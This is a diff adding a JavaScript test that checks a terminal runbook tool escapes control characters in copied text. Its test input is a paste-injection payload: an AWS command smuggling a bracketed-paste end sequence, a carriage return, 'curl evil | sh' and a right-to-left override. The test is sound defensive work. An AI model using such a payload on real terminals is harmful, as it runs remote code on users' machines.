@@ -140,6 +140,12 @@ describe('changes, the clipboard and the session', () => {
 		expect(notices.at(-1)).toEqual({text: 'copy is not available on this terminal', tone: 'warn'});
 	});
 
+	it('copies a guide\'s text as it is drawn: no escape sequence, no carriage return, the lines kept', () => {
+		const {copied, deps} = setup();
+		performRequest({id: 9, kind: 'copy', text: 'aws ecs list-clusters \\\n  --x \u001b[201~\rcurl evil | sh \u202e', what: 'the command'}, deps, () => {});
+		expect(copied).toEqual(['aws ecs list-clusters \\\n  --x \\x1b[201~\\x0dcurl evil | sh <U+202E>']);
+	});
+
 	it('keeps requests until a performer attaches, and results after it detaches', async () => {
 		const loaded = builtInRunbook(config.names);
 		const session = createRunbookSession(() => loaded);
